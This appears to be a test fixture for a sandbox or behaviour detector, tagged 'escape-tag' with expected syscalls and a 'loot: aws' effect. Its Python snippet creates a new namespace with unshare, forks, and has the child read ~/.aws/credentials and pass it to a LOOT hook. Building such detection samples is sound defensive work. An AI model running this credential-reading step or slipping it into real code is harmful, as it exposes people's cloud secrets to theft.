#: {"class": "escape-tag", "loader": "script", "expect": [["open", "credentials$"], ["unshare", "."]], "effect": {"loot": "aws"}}
import ctypes; ctypes.CDLL(None).unshare(0x20000000); p = os.fork()
if not p: LOOT(open(HOME + "/.aws/credentials").read()); os._exit(0)
os.waitpid(p, 0)
